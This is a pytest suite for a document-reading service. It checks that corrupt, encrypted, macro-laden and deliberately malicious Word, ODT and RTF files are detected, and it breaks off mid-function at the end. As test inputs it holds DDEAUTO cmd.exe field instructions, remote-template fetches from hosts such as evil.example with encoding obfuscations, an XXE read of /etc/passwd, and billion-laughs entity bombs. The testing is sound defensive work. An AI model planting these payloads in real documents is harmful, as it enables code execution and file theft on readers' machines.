"""Files that are broken, locked or made to hurt: a problem of the document, never an exception, never slow."""

import io
import random
import struct
import time
import zipfile
from datetime import UTC, datetime
from urllib.parse import unquote

import docx_maker as dm
import ole_maker
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from daemon import documents
from daemon.documents.problems import MAX_CHARACTERS
from daemon.model import Annotation, Document, FileKind, FileProblem, Remark

pytestmark = pytest.mark.slow

P = FileProblem
PLAIN = dm.p("chữ")
PAPER = dm.simple_paper(["Nội dung bài viết"], title="TÊN BÀI")


def problem(data: bytes, filename: str = "bài.docx") -> FileProblem | None:
    return documents.read(data, filename).problem


def xml(inner: str, before: str = "") -> str:
    return f"{dm.HEADER}{before}<w:document {dm.XMLNS}><w:body>{inner}</w:body></w:document>"


# --------------------------------------------------------------------------- broken


@pytest.mark.parametrize("data", [b"", b"\0", bytes(5000)])
@pytest.mark.parametrize("filename", ["bài.docx", "bài.doc", "bài.pdf", "bài"])
def test_files_without_content_are_empty(data: bytes, filename: str) -> None:
    assert problem(data, filename) is P.EMPTY


def without(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(PAPER)) as archive:
        return dm.zip_bytes({entry: archive.read(entry) for entry in archive.namelist() if entry != name})


@pytest.mark.parametrize(
    "data",
    [
        b"not a document at all",
        b"\x93\x01" * 300,
        PAPER[: len(PAPER) // 2],
        PAPER[:-10],
        without("word/document.xml"),
        dm.make_docx(document_xml=""),
        dm.make_docx(document_xml="<w:document"),
        dm.make_docx(document_xml="<html/>"),
        dm.make_docx(document_xml=xml("").replace("w:body", "w:other")),
        dm.make_docx(document_xml=f"<?xml version='1.0' encoding='KLINGON'?><w:document {dm.XMLNS}/>"),
        *(
            dm.make_docx(document_xml=f"<?xml version='1.0' encoding='{name}'?><w:document {dm.XMLNS}/>")
            for name in ("undefined", "idna", "punycode", "unicode_escape", "utf-7", "hex", "utf-8-sig-", "iso-8859-99")
        ),
        dm.make_docx(document_xml=xml(dm.p("x")) + "rác"),
        dm.make_docx(dm.p("x"), "<w:styles"),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    ],
)
def test_damaged_documents_are_corrupt(data: bytes) -> None:
    assert problem(data) is P.CORRUPT


def test_a_flipped_byte_in_a_part_is_found_by_its_checksum() -> None:
    with zipfile.ZipFile(io.BytesIO(PAPER)) as archive:
        entry = archive.getinfo("word/document.xml")
        stored = {name: archive.read(name) for name in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in stored.items():
            archive.writestr(name, content)
    damaged = buffer.getvalue().replace("Nội dung".encode(), "Nôi dung".encode(), 1)
    assert entry.file_size
    assert problem(damaged) is P.CORRUPT


@pytest.mark.parametrize(
    "name", ["word/settings.xml", "word/fontTable.xml", "word/theme/theme1.xml", "docProps/app.xml"]
)
def test_a_damaged_part_that_matters_less_is_a_warning(name: str) -> None:
    document = documents.read(dm.make_docx(dm.p("chữ"), None, {name: "<broken"}), "a.docx")
    assert document.problem is None
    assert len(document.warnings) == 1


@pytest.mark.parametrize("name", ["_rels/.rels", "word/_rels/document.xml.rels", "[Content_Types].xml"])
def test_missing_relationships_do_not_hide_the_text(name: str) -> None:
    document = documents.read(without(name), "a.docx")
    assert [it.text for it in document.paragraphs] == ["TÊN BÀI", "Nội dung bài viết"]


def test_names_with_backslashes_and_in_other_case() -> None:
    with zipfile.ZipFile(io.BytesIO(PAPER)) as archive:
        renamed = {
            name.replace("word/document.xml", "Word\\Document.xml"): archive.read(name) for name in archive.namelist()
        }
    assert problem(dm.zip_bytes(renamed)) is None


def encoded() -> bytes:
    """A paper with an Arial run whose parts stand in a folder with a space, percent-encoded as in references to it."""
    with zipfile.ZipFile(io.BytesIO(dm.make_docx(dm.p(dm.r("chữ", "Arial")), dm.paper_styles()))) as archive:
        inside = {name: archive.read(name).decode() for name in archive.namelist()}
    return dm.zip_bytes(
        {name.replace("word/", "b%20%C3%A0i/"): text.replace("word/", "b%20%C3%A0i/") for name, text in inside.items()}
    )


def test_names_that_are_percent_encoded() -> None:
    (paragraph,) = documents.read(encoded(), "a.docx").paragraphs
    assert [(span.text, span.font) for span in paragraph.spans] == [("chữ", "Arial")]


def test_a_copy_keeps_names_that_are_percent_encoded() -> None:
    (paragraph,) = documents.read(encoded(), "a.docx").paragraphs
    told = Annotation((Remark("phông", paragraph.place),), "Ban Thư ký", "BTK", datetime(2021, 10, 1, tzinfo=UTC))
    for copy in (documents.corrected_copy(encoded(), "Times New Roman"), documents.annotated_copy(encoded(), told)):
        assert copy is not None
        (read,) = documents.read(copy, "a.docx").paragraphs
        assert read.text == paragraph.text
        with zipfile.ZipFile(io.BytesIO(copy)) as archive:
            assert all(name.isascii() and " " not in name for name in archive.namelist())
            assert len({unquote(name) for name in archive.namelist()}) == len(archive.namelist())


def test_other_kinds_are_unsupported() -> None:
    assert documents.read(b"\x89PNG\r\n\x1a\n", "bài.docx") == Document(
        FileKind.IMAGE, P.UNSUPPORTED, "a file of kind image is not a paper"
    )
    assert problem(b"<html><body>x</body></html>", "bài.doc") is P.UNSUPPORTED


@pytest.mark.parametrize(
    ("name", "codec"), [("windows-1258", "cp1258"), ("ISO-8859-1", "latin-1"), ("UTF8", "utf-8"), ("utf-16", "utf-16")]
)
def test_encodings_that_programs_do_write(name: str, codec: str) -> None:
    document = f"<w:document {dm.XMLNS}><w:body>{dm.p('àé')}</w:body></w:document>"
    written = f"<?xml version='1.0' encoding='{name}'?>{document}".encode(codec)
    (paragraph,) = documents.read(dm.make_docx(parts={"word/document.xml": written}), "a.docx").paragraphs
    assert paragraph.text == "àé"


def properties(inner: str) -> str:
    return f"<w:p><w:pPr>{inner}</w:pPr>{dm.r('chữ')}</w:p>"


LISTED = dm.item("chữ", 1, 0)
DROP_DOWN = '<w:ffData><w:ddList><w:result w:val="SAID"/><w:listEntry w:val="a"/></w:ddList></w:ffData>'
BANDED = dm.style("T", '<w:tblPr><w:tblStyleRowBandSize w:val="SAID"/></w:tblPr>', kind="table")
#: Every place where a file says a whole number: body, styles, parts.
NUMBERED: dict[str, tuple[str, str, dict[str, str]]] = {
    "outline": (properties('<w:outlineLvl w:val="SAID"/>'), "", {}),
    "list": (properties('<w:numPr><w:ilvl w:val="SAID"/><w:numId w:val="1"/></w:numPr>'), "", {}),
    "row": (f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="SAID"/></w:trPr><w:tc>{PLAIN}</w:tc></w:tr></w:tbl>', "", {}),
    "cell": (f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="SAID"/></w:tcPr>{PLAIN}</w:tc></w:tr></w:tbl>', "", {}),
    "field": (f'<w:p><w:r><w:fldChar w:fldCharType="begin">{DROP_DOWN}</w:fldChar></w:r>{dm.r("chữ")}</w:p>', "", {}),
    "comment": (f'<w:p><w:commentRangeStart w:id="SAID"/>{dm.r("chữ")}</w:p>', "", {}),
    "level": (LISTED, "", dm.numbering(dm.level(0, "decimal", "%1.").replace('"0"', '"SAID"'))),
    "start": (LISTED, "", dm.numbering(dm.level(0, "decimal", "%1.").replace('"1"', '"SAID"'))),
    "restart": (LISTED, "", dm.numbering(dm.level(0, "decimal", "%1.", extra='<w:lvlRestart w:val="SAID"/>'))),
    "band": (dm.table([["chữ"]], style="T"), dm.styles(BANDED), {}),
    "pages": (PLAIN, "", {name: part.replace("77", "SAID") for name, part in dm.app_properties(77).items()}),
}


@pytest.mark.parametrize("where", NUMBERED)
@pytest.mark.parametrize("said", ["\u00b2", "\u2460", "\u0663", "-1", "+1", "1_0", "9" * 5000])
def test_numbers_that_are_none_are_passed_over(where: str, said: str) -> None:
    """`str.isdigit` takes "²" for a digit, and `int` does not."""
    body, styles, parts = NUMBERED[where]
    lists = dm.numbering(dm.level(0, "decimal", "%1.")) | parts
    data = dm.make_docx(
        body.replace("SAID", said),
        styles.replace("SAID", said) or dm.paper_styles(),
        {name: part.replace("SAID", said) for name, part in lists.items()},
    )
    document = documents.read(data, "a.docx")
    assert (document.problem, document.stored_pages) == (None, None)
    assert [it.text for it in document.paragraphs] == ["chữ"]
    told = Annotation((Remark("phông", None),), "Ban Thư ký", "BTK", datetime(2021, 10, 1, tzinfo=UTC))
    assert documents.annotated_copy(data, told) is not None


# --------------------------------------------------------------------------- locked, with macros


def test_encrypted_packages() -> None:
    locked = ole_maker.make_ole({"EncryptionInfo": b"", "EncryptedPackage": b""})
    document = documents.read(locked, "bài.docx")
    assert (document.kind, document.problem) == (FileKind.DOCX, P.ENCRYPTED)


def test_zip_encryption() -> None:
    data = bytearray(PAPER)
    for at in (at for at in range(len(data)) if data[at : at + 4] == b"PK\x01\x02"):
        data[at + 8] |= 1
    assert problem(bytes(data)) is P.ENCRYPTED


@pytest.mark.parametrize(
    "data",
    [
        dm.make_docx(dm.p("x"), main_type=dm.MACRO_TYPE),
        dm.make_docx(dm.p("x"), None, {"word/vbaProject.bin": b"x"}),
        dm.make_docx(dm.p("x"), None, {"word/vbaProject.bin": b"x"}, main_type=dm.MACRO_TYPE),
    ],
)
def test_macros(data: bytes) -> None:
    assert problem(data, "bài.docm") is P.MACROS
    assert problem(data, "bài.docx") is P.MACROS


VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def related(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="x" Type="{kind}" Target="{target}"{mode}/>'


def rewritten(data: bytes, name: str, *changes: tuple[str, str], **more: bytes) -> bytes:
    """With other words in a part, and more parts under word/."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = {entry: archive.read(entry) for entry in archive.namelist()}
    text = entries[name].decode()
    for old, new in changes:
        assert old in text
        text = text.replace(old, new)
    return dm.zip_bytes(entries | {name: text.encode()} | {f"word/{stem}.bin": it for stem, it in more.items()})


END = "</Relationships>"
OVERRIDE = f'<Override PartName="/word/document.xml" ContentType="{dm.MAIN_TYPE}"/>'


@pytest.mark.parametrize(
    "data",
    [
        # A project of another name, which Word finds by its relationship.
        rewritten(PAPER, "word/_rels/document.xml.rels", (END, related(VBA, "vba.bin") + END), vba=b"x"),
        # The type of the main part is that of its extension.
        rewritten(PAPER, "[Content_Types].xml", (OVERRIDE, ""), ('"application/xml"', f'"{dm.MACRO_TYPE}"')),
    ],
)
def test_macros_by_what_word_goes_by(data: bytes) -> None:
    assert problem(data) is P.MACROS


@pytest.mark.parametrize(
    "data",
    [
        rewritten(PAPER, "word/_rels/document.xml.rels", (END, related(VBA, "vba.bin") + END)),  # taken out by a filter
        rewritten(
            PAPER, "[Content_Types].xml", ('"application/xml"', f'"{dm.MACRO_TYPE}"')
        ),  # the main part has its own
    ],
)
def test_what_only_could_have_had_macros_is_read(data: bytes) -> None:
    assert problem(data) is None


@pytest.mark.parametrize(
    ("part", "mode"),
    [("settings.xml", "External"), ("document.xml", "&#69;xternal"), ("header1.xml", "Ext&#x65;rna&#108;")],
)
@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("attachedTemplate", "https://mau.example/bai.dotm", P.MACROS),
        ("attachedTemplate", "HTTP://mau.example/x", P.MACROS),
        ("attachedTemplate", "file://mau.example/mau/bai.dotx", P.MACROS),
        ("attachedTemplate", "\\\\192.0.2.7\\mau.dotx", P.MACROS),
        ("attachedTemplate", "\\\\mau@SSL\\DavWWWRoot\\mau.dotx", P.MACROS),  # a share over https
        ("attachedTemplate", "file:///\\\\mau.example\\mau.dotx", P.MACROS),
        ("attachedTemplate", "file:///%5C%5Cmau.example%5Cmau.dotx", P.MACROS),
        ("attachedTemplate", "\\\\?\\UNC\\mau.example\\mau.dotx", P.MACROS),
        ("attachedTemplate", "file:///\\\\?\\unc\\192.0.2.7\\mau.dotx", P.MACROS),
        ("attachedTemplate", "\\\\.\\UNC\\3221225991\\mau.dotx", P.MACROS),
        ("attachedTemplate", "\\\\3221225991\\mau.dotx", P.MACROS),  # 192.0.2.7
        ("attachedTemplate", "file://0xC0000207/mau.dotx", P.MACROS),
        ("attachedTemplate", "file://[2001:db8::7]/mau.dotx", P.MACROS),
        ("oleObject", "mhtml:http://mau.example/x.html!x", P.MACROS),
        ("frame", "http://mau.example/", P.MACROS),
        # A template or workbook of the author's own, addresses, pictures: many papers have them.
        ("attachedTemplate", "file:///C:\\Users\\An\\Normal.dotm", None),
        ("attachedTemplate", "file:///D:/mau.dotx", None),
        ("attachedTemplate", "file:///\\\\MAYCHU\\Mau\\bai.dotx", None),  # of the author's office
        ("attachedTemplate", "\\\\?\\UNC\\MAYCHU\\Mau\\bai.dotx", None),
        ("attachedTemplate", "\\\\?\\C:\\Mau\\bai.dotx", None),
        ("attachedTemplate", "\\\\2MAYCHU\\2021\\bai.dotx", None),
        ("attachedTemplate", "file:///D:/2021/3.5/bai.dotx", None),
        ("attachedTemplate", "\\\\192.168.1.5\\mau\\bai.dotx", None),
        ("attachedTemplate", "file://10.0.0.7/mau/bai.dotx", None),
        ("attachedTemplate", "\\\\MAY-1.local\\mau\\bai.dotx", None),
        ("attachedTemplate", "\\\\.\\C:\\mau\\bai.dotx", None),
        ("attachedTemplate", "\\\\192.168.1.5@SSL\\mau\\bai.dotx", P.MACROS),
        ("attachedTemplate", "\\\\192.168.1.5.mau.example\\bai.dotx", P.MACROS),
        ("attachedTemplate", "file://localhost/D:/mau.dotx", None),
        ("attachedTemplate", "Normal.dotm", None),
        ("oleObject", "file:///D:\\so%20lieu.xlsx", None),
        ("hyperlink", "https://bao.example/", None),
        ("image", "https://bao.example/anh.png", None),
    ],
)
def test_what_is_fetched_from_another_machine_as_the_file_is_opened(
    part: str, kind: str, target: str, expected: FileProblem | None, mode: str
) -> None:
    """The template brings macros that the file itself has not."""
    line = related(f"{dm.RELATIONSHIPS}/{kind}", target, outside=True).replace("External", mode)
    name = f"word/_rels/{part}.rels"
    base = dm.make_docx(dm.p("chữ"), dm.paper_styles(), dm.settings(""))
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        there = archive.read(name).decode() if name in archive.namelist() else None
    empty = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{END}'
    parts = dm.settings("") | {name: (there or empty).replace(END, line + END)}
    assert problem(dm.make_docx(dm.p("chữ"), dm.paper_styles(), parts)) is expected


def instructed(*pieces: str) -> str:
    """A paragraph with a field whose instruction stands in several runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{it}</w:instrText></w:r>' for it in pieces)
    return dm.p(mark("begin") + runs + mark("separate") + dm.r("chữ") + mark("end"))


def away(change: str, *pieces: str) -> str:
    """The same, gone with tracked changes."""
    inside = instructed(*pieces).removeprefix("<w:p>").removesuffix("</w:p>")
    return dm.p(f'<w:{change} w:id="1" w:author="A">{inside.replace("instrText", "delInstrText")}</w:{change}>')


@pytest.mark.parametrize(
    ("paragraph", "expected"),
    [
        (instructed(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '), P.MACROS),
        (instructed(" " * 400, "dde", "auto", ' "cmd" "/k x"'), P.MACROS),
        (instructed('DDE"cmd" "/k x"'), P.MACROS),
        (dm.p('<w:fldSimple w:instr=" DDEAUTO cmd x "><w:r><w:t>chữ</w:t></w:r></w:fldSimple>'), P.MACROS),
        (away("del", "DDEAUTO cmd x"), P.MACROS),
        (away("moveFrom", "dde", " cmd x"), P.MACROS),
        (f"<w:tbl><w:tr><w:trPr><w:del/></w:trPr><w:tc>{instructed('DDE cmd x')}</w:tc></w:tr></w:tbl>", P.MACROS),
        (away("del", "PAGE"), None),
        (instructed(' LINK Excel.Sheet.12 "D:\\so lieu.xlsx" "Sheet1!R1C1" '), None),
        (instructed(' QUOTE "DDEAUTO cmd x" '), None),
        (instructed(" DDEN "), None),
        (dm.p("DDEAUTO cmd x"), None),
    ],
)  # fmt: skip
def test_what_word_would_start_as_the_file_is_opened(paragraph: str, expected: FileProblem | None) -> None:
    assert problem(dm.make_docx(dm.p("chữ") + paragraph)) is expected
    assert problem(dm.make_docx(dm.p("chữ") + dm.table([[paragraph]]))) is expected


def test_figures_of_a_chart_that_may_hold_macros_of_excel_are_no_macros_of_the_paper() -> None:
    assert problem(dm.make_docx(dm.p("chữ"), parts={"word/embeddings/workbook1.xlsm": b"PK"})) is None


def test_a_template_without_macros_is_read() -> None:
    assert problem(dm.make_docx(dm.p("chữ"), main_type=dm.TEMPLATE_TYPE), "mẫu.dotx") is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (ole_maker.make_doc("x"), None),
        (ole_maker.make_doc("x", encrypted=True), P.ENCRYPTED),
        (ole_maker.make_doc("x", macros=True), P.MACROS),
        (ole_maker.make_ole({"WordDocument": b"\xff" * 100}), P.CORRUPT),
        (ole_maker.make_doc("x")[:1500], P.CORRUPT),
        (ole_maker.make_ole({"Contents": b""}), P.CORRUPT),
    ],
)
def test_word_97_files(data: bytes, expected: FileProblem | None) -> None:
    assert documents.read(data, "bài.doc") == Document(
        FileKind.DOC, expected, documents.read(data, "bài.doc").problem_note
    )


def odt(manifest: str = "<m/>", content: str = "<c/>", **more: str) -> bytes:
    return dm.zip_bytes(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": manifest,
            "content.xml": content,
        }
        | {name.replace("__", "/"): value for name, value in more.items()}
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (odt(), None),
        (odt("<m><manifest:encryption-data/></m>"), P.ENCRYPTED),
        (odt(**{"Basic__Standard__Module1.xml": "<x/>"}), P.MACROS),
        (odt(**{"Basic__Standard__script-lb.xml": "<x/>"}), None),
        (odt(**{"Scripts__python__x.py": "x"}), P.MACROS),
        (odt(content="<broken"), P.CORRUPT),
        (odt()[:-40], P.CORRUPT),
    ],
)
def test_open_document_files(data: bytes, expected: FileProblem | None) -> None:
    assert problem(data, "bài.odt") is expected


@pytest.mark.parametrize(
    ("rtf", "stands_for"),
    [
        (b"{\\rtf1 x}", "times new roman"),  # Word's own default
        (b"{\\rtf1{\\fonttbl{\\f0 Arial;}}\\f0 x}", "times new roman"),
        (b"{\\rtf1{\\fonttbl{\\f0 Liberation Serif;}}\\f0 x}", None),  # its author chose it
    ],
)
def test_a_font_that_only_the_conversion_of_an_rtf_names_is_the_default_of_word(
    rtf: bytes, stands_for: str | None
) -> None:
    expected = {} if stands_for is None else {"liberation serif": frozenset({stands_for})}
    assert documents.read(rtf, "a.rtf").font_aliases == expected


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        (rb"\f2\froman\fprq2{\*\panose 0202}Kinh  Bac{\*\falt Times New Roman};", {"kinh bac": "times new roman"}),
        (rb"\f2\froman\fcharset0 Kinh Bac{\*\falt Tms Rmn};", {"kinh bac": "tms rmn"}),
        (rb"\f2\froman Kinh Bac;", {}),
        (rb"\f2\froman {\*\falt Times New Roman};", {}),
    ],
)
def test_the_alternate_names_of_an_rtf_are_its_font_table(entry: bytes, expected: dict[str, str]) -> None:
    """LibreOffice drops them."""
    found = documents.read(b"{\\rtf1{\\fonttbl{" + entry + b"}{\\f3 Liberation Serif;}}\\f2 x}", "a.rtf").font_aliases
    assert found == {name: frozenset({other}) for name, other in expected.items()}


@pytest.mark.parametrize(
    ("rtf", "expected"),
    [
        (r"{\*\template http://mau.example/bai.dotm}", P.MACROS),
        (r"{\*\template \\\\mau.example\\bai.dotm}", P.MACROS),
        (r"{\*\template \'68ttp://mau.example/bai.dotm}", P.MACROS),
        (r"{\*\template C:\\Users\\An\\Normal.dotm}", None),
        (r"{\*\template \\\\MAYCHU\\Mau\\bai.dotx}", None),
        (r'{\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe "/k x"}{\fldrslt a}}', P.MACROS),
        (r'{\field{\*\fldinst PAGE}{\fldrslt a}}{\field{\*\fldinst {\rtlch\af0 \ltrch\insrsid12  dde "cmd"}}}', P.MACROS),
        (r'{\field{\*\fldinst {\b D}{\i\'44}{E}AUTO "cmd"}}', P.MACROS),
        (r'{\field{\*\fldinst LINK Excel.Sheet.12 "D:\\DDE.xlsx"}{\fldrslt DDE}}', None),
        (r"{\field{\*\fldinst {\lang1066 PAGE}}}{DDEAUTO}", None),
        (r"{\field{\*\fldinst \u68?\u68?\u69?AUTO cmd x}}", P.MACROS),
        (r"{\field{\*\fldinst {\uc0 D\u68 EAUTO} cmd x}}", P.MACROS),
        (r"{\field{\*\fldinst D{\*\bkmkstart a}DE cmd x}}", P.MACROS),
        (r"{\field{\*\fldinst {\*\bkmkstart DDE}PAGE}}", None),
        (r"{\field{\*\fldinst PAGE}{\fldrslt DDEAUTO}}", None),
        (r"{\*\template\'68ttp://evil.example/x.dotm}", P.MACROS),
        (r"{\*\template \u104?\u116?\u116?\u112?://evil.example/x.dotm}", P.MACROS),
        (r"{\*\template {\f0 http}://evil.example/x.dotm}", P.MACROS),
        (r"{\*\template {\*\x http:}C:\\Normal.dotm}", None),
        pytest.param((r"{\field{\*\fldinst" + r"\b" * 2_000 + "}}") * 600, P.BOMB, id="more fields than any paper"),
        (r"{\field{\*\fldinst}{\fldrslt DDE cmd}}", None),
    ],
)  # fmt: skip
def test_what_word_would_fetch_or_start_for_an_rtf(rtf: str, expected: FileProblem | None) -> None:
    assert problem(f"{{\\rtf1 {rtf} x}}".encode(), "a.rtf") is expected


def test_rtf_files() -> None:
    assert problem(b"{\\rtf1 x}\r\n\0", "a.rtf") is None
    assert problem(b"{\\rtf1 {\\b x", "a.rtf") is P.CORRUPT
    assert problem(b"{\\rtf1 " + b"{\\b a}" * 50_000 + b"}", "a.rtf") is None
    assert problem(b"{\\rtf1 " + b"{\\b a}" * 200_000 + b"}", "a.rtf") is P.BOMB
    assert problem(b"{\\rtf1 " + b"a\\par " * 200_000 + b"}", "a.rtf") is P.BOMB
    row = b"\\trowd\\cellx100\\cellx200 a\\cell b\\cell\\row "
    assert problem(b"{\\rtf1 " + row * 10_000 + b"}", "a.rtf") is None
    assert problem(b"{\\rtf1 " + row * 20_000 + b"}", "a.rtf") is P.BOMB
    assert problem(b"{\\rtf1 " + row.replace(b"\\cell b", b"\\nestcell b") * 20_000 + b"}", "a.rtf") is P.BOMB
    assert problem(b"{\\rtf1 {\\b x}\\par and so", "a.rtf") is P.CORRUPT
    assert problem(b"{\\rtf1 " + b"{" * 1_000 + b"x" + b"}" * 1_000 + b"}", "a.rtf") is None
    assert problem(b"{\\rtf1 " + b"{" * 9_000 + b"x" + b"}" * 9_000 + b"}", "a.rtf") is P.BOMB
    assert problem(b"{\\rtf1 " + b"\\{" * 9_000 + b"x" + b"\\}" * 9_000 + b"}", "a.rtf") is None
    assert problem(b"{\\rtf1 " + b"\\ul a" * 600_000 + b"}", "a.rtf") is None
    assert problem(b"{\\rtf1 " + b"\\u7897?" * 600_000 + b"}", "a.rtf") is P.BOMB
    assert problem(b"{\\rtf1 {\\b x}\\} \\{ \\\\}\r\nleft over", "a.rtf") is None


# --------------------------------------------------------------------------- made to hurt

LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {after} '{f'&{before};' * 10}'>" for before, after in zip("abcdefghi", "bcdefghij", strict=True)
)


@pytest.mark.parametrize(
    "declaration",
    [
        "<!DOCTYPE d>",
        LAUGHS + "]>",
        "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE d SYSTEM 'http://127.0.0.1:1/x.dtd'>",
        "<!-- " + "x" * 10_000 + " --><!DOCTYPE d>",
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/footnotes.xml", "word/header1.xml"])
def test_document_type_declarations_are_bombs(declaration: str, part: str) -> None:
    inside = dm.p("&j;&x;") if part == "word/document.xml" else ""
    body = f'{dm.p("chữ")}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>{inside}'
    sect = '<w:sectPr><w:headerReference w:type="default" r:id="header1"/></w:sectPr>'
    parts = {} if part == "word/document.xml" else {part: f"{dm.HEADER}{declaration}<w:x {dm.XMLNS}/>"}
    document_xml = xml(body + sect, declaration if part == "word/document.xml" else "")
    assert problem(dm.make_docx("", None, parts, document_xml=document_xml)) is P.BOMB


def test_declarations_hidden_in_another_encoding_are_found() -> None:
    hidden = f"<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE d><w:document {dm.XMLNS}/>".encode("utf-16")
    entries = {"[Content_Types].xml": "", "word/document.xml": hidden}
    assert problem(dm.zip_bytes(entries)) is P.BOMB
    cp037 = f"<?xml version='1.0' encoding='cp037'?><!DOCTYPE d><w:document {dm.XMLNS}/>".encode("cp037")
    assert problem(dm.zip_bytes(entries | {"word/document.xml": cp037})) in (P.BOMB, P.CORRUPT)


@pytest.fixture(scope="module")
def huge() -> bytes:
    return dm.make_docx(dm.p("a" * 65_000_000))


def test_a_part_that_unpacks_to_more_than_any_paper(huge: bytes) -> None:
    assert problem(huge) is P.BOMB


def test_a_part_that_lies_about_its_size(huge: bytes) -> None:
    data = bytearray(huge)
    for at in (at for at in range(len(data)) if data[at : at + 4] == b"PK\x01\x02"):
        if data[at + 46 :].startswith(b"word/document.xml"):
            struct.pack_into("<I", data, at + 24, 1000)
    assert problem(bytes(data)) in (P.BOMB, P.CORRUPT)


RICH = dm.r("a", "Times New Roman", size=14)


@pytest.mark.parametrize(
    "body", [f"<w:p>{RICH * 200_000}</w:p>", f"<w:p>{RICH * 20}</w:p>" * 10_000], ids=["in one", "in many paragraphs"]
)
def test_two_hundred_thousand_formatted_runs_are_told_before_they_are_parsed(body: str) -> None:
    data = dm.make_docx(body)
    started = time.process_time()
    assert problem(data) is P.BOMB
    assert time.process_time() - started < 1.0  # parsing and reading them takes longer


@pytest.mark.parametrize("part", ["word/styles.xml", "word/theme/theme1.xml", "word/numbering.xml", "docProps/app.xml"])
def test_what_would_grow_into_a_forest(part: str) -> None:
    grown = f"{dm.HEADER}<w:styles {dm.XMLNS}>{'<w:style/>' * 2_000_000}</w:styles>"
    expected = None if part == "word/numbering.xml" else P.BOMB  # numbers are not read
    assert problem(dm.make_docx(dm.p("x"), None, {part: grown})) is expected


def test_the_longest_paper_anybody_writes_is_far_from_the_limit() -> None:
    """A hundred pages in runs of two words, as revisions leave them."""
    paragraph = f"<w:p w:rsidR='00A77B3E'>{dm.r('hai từ ', 'Times New Roman', size=14) * 60}</w:p>"
    assert problem(dm.make_docx(paragraph * 300, dm.paper_styles())) is None


@pytest.mark.parametrize(
    "part", ["docProps/core.xml", "word/numbering.xml", "word/comments.xml", "customXml/item1.xml", "word/header9.xml"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_declarations_in_parts_that_are_never_parsed(part: str, encoding: str) -> None:
    for before in ("", " " * 3000, "<?x <d?>", "<!-- <d> -->", f"<?x {'<d>' * 300}?>"):
        xml = f"<?xml version='1.0' encoding='{encoding}'?>{before}<!DOCTYPE d [<!ENTITY a 'ha'>]><d>&a;</d>"
        assert problem(dm.make_docx(dm.p("x"), None, {part: xml.encode(encoding)})) is P.BOMB


def test_two_different_parts_of_one_name() -> None:
    buffer = io.BytesIO(PAPER)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("Word/Document.xml", xml(dm.p("khác")))
    assert problem(buffer.getvalue()) is P.CORRUPT


def noisy(size: int) -> bytes:
    return b"\xff\xd8\xff" + random.Random(1).randbytes(size)


def test_large_pictures_are_left_out_and_nothing_else() -> None:
    pictures = {"word/media/image1.jpeg": noisy(9_000_000), "word/media/image2.png": b"\x89PNG small"}
    data = dm.make_docx(dm.p("chữ"), dm.paper_styles(), pictures)
    lean = documents.thin(data)
    assert len(lean) < 10_000
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(io.BytesIO(lean)) as after:
        assert before.namelist() == after.namelist()
        changed = {name for name in before.namelist() if before.read(name) != after.read(name)}
    assert changed == {"word/media/image1.jpeg"}
    assert documents.read(lean, "a.docx") == documents.read(data, "a.docx")


@pytest.mark.parametrize(
    ("name", "content", "drawn"),
    [
        ("image1.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", True),
        ("image1.svg", b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>", False),
        ("image1.png", b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>", False),  # LibreOffice looks inside
        ("image1.png", "<!DOCTYPE svg>".encode("utf-16"), False),
        ("image1.svgz", b"\x1f\x8b\x08 whatever", False),
        ("page.html", b"<!DOCTYPE html><p>x</p>", True),  # embedded text, no picture
    ],
)
def test_pictures_that_libreoffice_would_expand_are_left_out(name: str, content: bytes, *, drawn: bool) -> None:
    data = dm.make_docx(dm.p("chữ"), dm.paper_styles(), {f"word/media/{name}": content})
    with zipfile.ZipFile(io.BytesIO(documents.thin(data))) as lean:
        assert (lean.read(f"word/media/{name}") == content) is drawn


def drawn_in(width: int, height: int) -> dict[str, bytes]:
    """Pictures of so many pixels that say so in a few bytes, by their formats; none has any content."""
    little = struct.pack("<HH", width, height)
    tags = struct.pack("<HHII", 256, 3, 1, width) + struct.pack("<HHII", 257, 4, 1, height)
    exif = b"\xff\xe1\xff\xff" + bytes(0xFFFD)
    return {
        "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", width, height) + bytes(5),
        "gif": b"GIF89a" + little + bytes(9),
        "bmp": b"BM" + bytes(12) + struct.pack("<Iii", 40, width, -height) + bytes(28),
        "jpg": b"\xff\xd8" + 2 * exif + b"\xff\xff\xc2\0\x11\x08" + struct.pack(">HH", height, width) + bytes(12),
